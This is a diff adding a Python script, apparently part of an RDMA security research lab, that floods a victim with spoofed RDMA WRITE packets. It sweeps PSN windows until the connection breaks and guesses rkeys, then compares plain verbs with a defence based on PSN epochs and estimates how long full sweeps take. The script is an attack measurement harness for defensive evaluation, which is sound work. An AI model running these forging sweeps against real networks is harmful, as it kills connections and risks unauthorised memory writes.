@@ -1,0 +1,147 @@
+#!/usr/bin/python3
+# SPDX-License-Identifier: Apache-2.0
+"""Off-path forging by trying all numbers: what a sweep costs, and what the victim does meanwhile.
+
+A wrong PSN is dropped in silence, so all 2^24 can be tried. A wrong rkey is not: it ends the connection."""
+import time
+
+import lab as rig
+from lab import PSNS, after, seen_packet, uroce_counters
+
+ARGUMENTS = rig.options(__doc__, {"--rate": {"type": int, "default": 500000, "help": "packets a second that the victim can take in"}})
+LAB = rig.Lab(ARGUMENTS)
+NAME = "sweep"
+BAD_WRITE = ["--op", "write", "--rkey", "0xbadbad", "--va", "0", "--text", "x"]
+RATE = 20000 if LAB.rxe else ARGUMENTS.rate
+PASSES = 4
+QPN_BITS = 14  # of uroce, in a process; rdma_rxe numbers in order
+
+
+def taken_in(server):
+    """Packets that reached the server's device."""
+    if LAB.rxe:
+        with open("/sys/class/infiniband/rxe0/ports/1/hw_counters/rcvd_pkts", encoding="ascii") as file:
+            return int(file.read())
+    return uroce_counters(server)["rx_packets"]
+
+
+def rates():
+    """What the attacker can send, and what the victim's device can take in."""
+    server, client, at, _ = LAB.victims("--random-psn")
+    client.say("send 0 genuine")
+    server.must("message")
+    count = 20000 if LAB.rxe else 1000000 if LAB.short else 8000000
+    found = {}
+    for what, words in (("another PSN", ["--qpn", at["qpn"], "--psn", f"{after(at['peer_psn'], 1000)}+{min(count, PSNS // 4)}"]),
+                        ("another QPN", ["--qpn", at["qpn"] ^ 1, "--psn", f"0+{count}"])):
+        before, began = taken_in(server), time.monotonic()
+        sent = LAB.spoof(*BAD_WRITE, *words)
+        time.sleep(0.3)
+        taken = taken_in(server) - before
+        elapsed = time.monotonic() - began - 0.3
+        found[what] = sent["packets"] / sent["seconds"], taken / max(elapsed, 0.001)
+        good = client_is_well(server, client)
+        LAB.report("flood of forged packets", "off-path, spoofs", "addresses, QPN", "plain verbs", "random PSN",
+                   f"writes to {what}: sent {found[what][0] / 1e6:.2f} million/s, taken in {found[what][1] / 1e6:.2f} million/s "
+                   f"({100 * taken / sent['packets']:.0f} %). Does the connection end?", "failed", not good, **sent)
+    LAB.clear()
+    return found
+
+
+def client_is_well(server, client):
+    client.say("send 0 well")
+    return server.event("message", 5, text="well") is not None
+
+
+def blind(width, words, defence, expected, victims):
+    """All PSNs of a window that has the right one, in order, until the connection ends."""
+    server, at, ended = victims(words)
+    first = 0 if width == PSNS else (at["expected"] // width) * width
+    packets, seconds, hit, step = 0, 0.0, False, min(width, 1 << 19)
+    for _ in range(PASSES if expected == "succeeded" else 1):
+        for start in range(first, first + width, step):
+            sent = LAB.spoof(*BAD_WRITE, "--qpn", at["qpn"], "--psn", f"{start}+{step}", "--rate", RATE)
+            packets, seconds = packets + sent["packets"], seconds + sent["seconds"]
+            hit = ended(0.05)
+            if hit:
+                break
+        if hit or ended(1):
+            hit = True
+            break
+    known = "QPN" if width == PSNS else f"QPN and {24 - width.bit_length() + 1} bits of the PSN"
+    LAB.report(NAME, "off-path, spoofs", known, at["victim"], defence, f"bad RDMA WRITEs with {'all' if width == PSNS else width} PSNs at "
+               f"{RATE}/s, until the connection ends", expected, hit, packets=packets, seconds=seconds,
+               note=f"the right one was the {at['expected'] - first + 1:,}th")
+    LAB.clear()
+    return packets, seconds
+
+
+def plain(words):
+    server, client, at, _ = LAB.victims(*words)
+    client.say("send 0 genuine")
+    server.must("message")
+    at |= {"expected": after(at["peer_psn"]), "victim": "plain verbs"}
+    return server, at, lambda wait: server.event("broken", wait) is not None
+
+
+def securdma(words):
+    server = LAB.serve(*words)
+    sniffer = LAB.sniff()
+    client = LAB.connect(server, *words)
+    client.ask("send genuine")
+    seen = seen_packet(sniffer, rig.SEND_ONLY_IMM)
+    sniffer.stop()
+
+    def ended(_):
+        answer = client.ask("send well", 10)
+        return answer is None or not answer.endswith("well")
+
+    return server, {"qpn": seen["qpn"], "expected": after(seen["psn"]), "victim": "securdma"}, ended
+
+
+def rkey_guess():
+    """Who knows the PSN has one guess at the rkey for each connection."""
+    server, client, at, _ = LAB.victims("--random-psn")
+    client.say("send 0 genuine")
+    server.must("message")
+    sent = LAB.spoof("--op", "write", "--qpn", at["qpn"], "--psn", after(at["peer_psn"]), "--rkey", (at["rkey"] ^ 0x5a5a5a5a) & 0xffffffff, "--va",
+                     at["va"], "--text", "FORGED!")
+    server.event("broken", 2)
+    server.say("region 0")
+    region = server.must("region")["text"]
+    LAB.report("A1 injection", "on-path, sees", "PSN, QPN, address, not the rkey", "plain verbs", "random rkey",
+               "an RDMA WRITE with a guessed rkey: the wrong guess ends the connection", "failed", region.startswith("FORGED!"), **sent)
+    LAB.clear()
+
+
+def extrapolate(found, swept):
+    """Worked out, not tried: told as a note, not as a result."""
+    pps = found["another PSN"][1]
+    if pps <= 0:
+        return
+    print(f"# all PSNs of a known QPN at the {pps / 1e6:.2f} million/s that the victim takes in: {PSNS / pps:.0f} s, half of it on average")
+    if not LAB.rxe:
+        days = PSNS / pps * 2 ** QPN_BITS / 86400
+        print(f"# QPN unknown as well, one of a process's 2^{QPN_BITS}, drawn at random by uroce: 2^{QPN_BITS} times as long, {days:.1f} days; with N "
+              "connections between the same two addresses 1/N of it until the first ends. Most NICs number in order: no such factor there")
+        print("# rkey unknown as well: each guess costs a connection, 2^31 of them on average with uroce's 32 random bits")
+    if swept[1]:
+        print(f"# swept: {swept[0]} packets in {swept[1]:.1f} s")
+
+
+found_rates = rates()
+if LAB.rxe:
+    swept_plain = blind(1 << 12, ("--random-psn",), "random PSN", "succeeded", plain)
+else:
+    WIDTH = 1 << 16 if LAB.short else PSNS
+    swept_plain = blind(WIDTH, ("--random-psn",), "random PSN", "succeeded", plain)
+    if LAB.has("--epoch-psns"):
+        blind(WIDTH, ("--epoch-psns", "0", "--recoveries", "0"), "random PSN; no epochs", "succeeded", securdma)
+        blind(WIDTH, (), "epochs: renewed when a sweep is noticed, or after the kill", "failed", securdma)
+    else:
+        blind(WIDTH, (), "random PSN; no epochs", "succeeded", securdma)
+        LAB.report(NAME, "off-path, spoofs", "QPN", "securdma", "epochs: renewed when a sweep is noticed, or after the kill",
+                   "bad RDMA WRITEs with all PSNs", "failed", None, note="this build has no epochs")
+rkey_guess()
+extrapolate(found_rates, swept_plain)
+LAB.end()
